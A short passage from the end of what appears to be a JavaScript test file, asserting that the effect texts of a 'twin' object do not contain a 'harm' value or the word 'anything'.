    expect(effectTexts(twin)).not.toContain(harm);
    expect(effectTexts(twin)).not.toContain("anything");
  });
});
